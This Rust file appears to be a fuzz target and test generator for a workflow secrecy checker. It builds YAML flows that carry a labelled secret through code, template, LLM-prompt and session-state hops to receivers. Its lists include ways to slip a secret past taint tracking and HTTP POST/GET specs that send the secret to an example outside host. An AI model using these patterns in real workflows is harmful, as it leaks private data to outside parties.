//! Flows that carry a marked secret to a receiver that may not have it, made from a stream of bytes.
//!
//! Each flow delivers the secret by construction: from the request, through any number of hops that hand their input on,
//! to someone outside. So a check that accepts one has a hole. A fuzz target and a test share this file.

#[path = "choices.rs"]
mod choices;

pub(crate) use choices::Choices;

/// The label that makes the flow a leak. Without it the same flow is in order.
pub(crate) const LABEL: &str = "  sensitivity: {secret: restricted}\n";

/// Ways in which code hands its input on.
const COPIES: &[&str] = &[
    "return {'text': inputs['text']}",
    "return {'text': inputs.get('text')}",
    "x = inputs\nreturn {'text': x['text']}",
    "return {'text': ''.join(str(v) for v in inputs.values())}",
    "def g(i=inputs):\n    return i['text']\nreturn {'text': g()}",
    "g = lambda: inputs['text']\nreturn {'text': g()}",
    "return {'text': f\"{inputs['text']}\"}",
    "return {'text': '%s' % inputs['text']}",
    "out = ''\nfor c in inputs['text']:\n    out += c\nreturn {'text': out}",
    "try:\n    raise ValueError(inputs['text'])\nexcept ValueError as e:\n    return {'text': str(e)}",
    "a, *b = [inputs['text'], 1]\nreturn {'text': a}",
    "d = {**inputs}\nreturn {'text': d['text']}",
    "k = 'te' + 'xt'\nreturn {'text': inputs[k]}",
    "if (t := inputs['text']):\n    return {'text': t}\nreturn {'text': ''}",
];

/// Ways in which code takes the secret out of the context.
const SOURCES: &[&str] = &[
    "return {'text': context.secret}",
    "return {'text': context['secret']}",
    "return {'text': context.get('secret')}",
    "return {'text': str(context)}",
    "return {'text': ''.join(str(v) for v in context.values())}",
    "c = context\nreturn {'text': c.secret}",
    "def g(c=context):\n    return c.secret\nreturn {'text': g()}",
    "def g():\n    return context.secret\nreturn {'text': g()}",
    "return {'text': [c.secret for c in [context]][0]}",
    "return {'text': (c := context).secret}",
    "x = None\ndef g():\n    nonlocal x\n    x = context\ng()\nreturn {'text': x.secret}",
    "try:\n    raise ValueError(context.secret)\nexcept ValueError as e:\n    return {'text': str(e)}",
];

/// Ways in which a template prints its input or the secret.
const TEMPLATES: &[&str] = &[
    "{{ text }}",
    "{{ text | upper }}",
    "{% if text %}{{ text }}{% endif %}",
    "{% set t = text %}{{ t }}",
    "{% for c in text %}{{ c }}{% endfor %}",
    "{{ context.secret }}",
    "{{ context['secret'] }}",
    "{{ context | tojson }}",
    "{% set c = context %}{{ c.secret }}",
    "{% for k, v in context | dictsort %}{{ v }}{% endfor %}",
    "{% macro m(c) %}{{ c.secret }}{% endmacro %}{{ m(context) }}",
];

/// Two state keys that a run can fill to the same text.
const KEYS: &[(&str, &str)] = &[
    ("k_{session_id}", "k_{session_id}"),
    ("k_{context.session_id}", "k_{context.other_user_id}"),
    ("k_{session_id}", "{other_user_id}"),
    ("a{session_id}", "{context.session_id}"),
    ("{session_id}_{plain}", "{session_id}_x"),
];

/// Someone who may have private data at most.
const RECEIVERS: &[&str] = &[
    "{op: http.post, args: {url: \"https://x.example.com/\", body: {a: \"${text}\"}}}",
    "{op: http.post, args: {url: \"https://x.example.com/\", body: {a: [{b: \"x ${text}\"}]}}}",
    "{op: http.get, args: {url: \"https://x.example.com/?q=${text}\"}}",
    "{op: http.post, args: {url: \"https://x.example.com/\", body: \"${context.secret}\"}}",
    "{op: mcp.call, args: {server: files, tool: read, arguments: {a: \"${text}\"}}}",
    "{op: hopsworks.write_features, args: {feature_group: g, data: {a: \"${text}\"}}}",
];

/// One flow, with the label of the secret.
pub(crate) fn flow(choices: &mut Choices<'_>) -> String {
    let mut flow = Flow::default();
    let mut from = source(choices, &mut flow);
    for _ in 0..choices.byte() % 5 {
        from = hop(choices, &mut flow, &from);
    }
    receiver(choices, &mut flow, &from);
    format!(
        "version: \"1.0\"\nmetadata: {{name: attack}}\ncontext:\n  requires: [secret, plain, session_id, other_user_id]\n\
         {LABEL}nodes:\n{}edges:\n{}",
        flow.nodes, flow.edges
    )
}

#[derive(Default)]
struct Flow {
    nodes: String,
    edges: String,
    count: usize,
}

impl Flow {
    /// Adds a node with one input and one output, both named `text`, and gives its output.
    fn node(&mut self, from: &str, transform: &str, body: &str) -> String {
        let id = self.id();
        self.nodes.push_str(&format!(
            "  {id}:\n    type: transform\n    inputs: [{{name: text, type: string}}]\n    \
             outputs: [{{name: text, type: string}}]\n{body}"
        ));
        let transform =
            if transform.is_empty() { String::new() } else { format!(", transform: \"{transform}\"") };
        self.edges.push_str(&format!("  - {{from: {from}, to: {id}.text{transform}}}\n"));
        format!("{id}.text")
    }

    fn id(&mut self) -> String {
        self.count += 1;
        format!("n{}", self.count)
    }
}

fn code(body: &str) -> String {
    let lines: String = body.lines().map(|line| format!("            {line}\n")).collect();
    format!(
        "    transform:\n      mode: code\n      spec: |\n        def transform(inputs, context, state):\n{lines}"
    )
}

fn source(choices: &mut Choices<'_>, flow: &mut Flow) -> String {
    match choices.byte() % 3 {
        0 | 1 => "_input.secret".to_owned(),
        _ => flow.node("_input.plain", "", &code(choices.of(SOURCES))),
    }
}

fn hop(choices: &mut Choices<'_>, flow: &mut Flow, from: &str) -> String {
    match choices.byte() % 6 {
        0 => flow.node(
            from,
            "",
            "    transform: {mode: declarative, spec: {op: io.format_response, args: {template: \"- ${text}\"}}}\n",
        ),
        1 | 2 => flow.node(from, "", &code(choices.of(COPIES))),
        3 => {
            let transform = choices.of(&["value.upper()", "value + '!'", "str([value])", "context.secret"]);
            flow.node(from, transform, &code(COPIES[0]))
        }
        4 => {
            // A model that may have it answers with what it was shown.
            let prompt =
                "    prompt: {template: \"Say {{ text }}\", model: {provider: azure, name: m, endpoint: \"https://in.example.com\"}}\n";
            flow.node(from, "", prompt)
        }
        _ => {
            let (write, read) = KEYS[choices.byte() % KEYS.len()];
            let state = |key: &str| format!("    state: {{scope: session, key: \"{key}\"}}\n");
            let set = "await state.set('t', inputs['text'])\nreturn {'text': 'done'}";
            let written = flow.node(from, "", &format!("{}{}", state(write), code(set)));
            let get = "return {'text': await state.get('t', '')}";
            flow.node(&written, "", &format!("{}{}", state(read), code(get)))
        }
    }
}

fn receiver(choices: &mut Choices<'_>, flow: &mut Flow, from: &str) {
    let id = flow.id();
    let (kind, output) = match choices.byte() % 2 {
        0 => {
            let template = choices.of(TEMPLATES).replace('\'', "''");
            let prompt = format!(
                "    prompt:\n      template: '{template}'\n      model: {{provider: openai, name: m}}\n"
            );
            (prompt, "string")
        }
        _ => {
            let spec = choices.of(RECEIVERS);
            (format!("    transform: {{mode: declarative, spec: {spec}}}\n"), "object")
        }
    };
    flow.nodes.push_str(&format!(
        "  {id}:\n    type: transform\n    inputs: [{{name: text, type: string}}]\n    \
         outputs: [{{name: out, type: {output}}}]\n{kind}"
    ));
    flow.edges
        .push_str(&format!("  - {{from: {from}, to: {id}.text}}\n  - {{from: {id}.out, to: _output}}\n"));
}
